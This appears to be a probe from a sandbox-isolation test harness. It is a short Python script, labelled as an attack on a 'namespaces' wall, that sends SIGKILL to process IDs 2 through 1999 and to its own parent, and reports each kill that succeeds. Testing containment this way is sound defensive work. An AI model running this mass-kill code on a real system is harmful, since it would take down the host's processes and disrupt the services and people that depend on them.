# /// attack
# does = "signals every process by its number"
# wall = "namespaces"
# ///
# %%
import os, signal
for number in {*range(2, 2000), os.getppid()} - {0, 1}:
    try:
        os.kill(number, signal.SIGKILL)
        print("GAINED a kill of", number)
    except OSError:
        pass
attempt("a signal to a process", lambda: None)
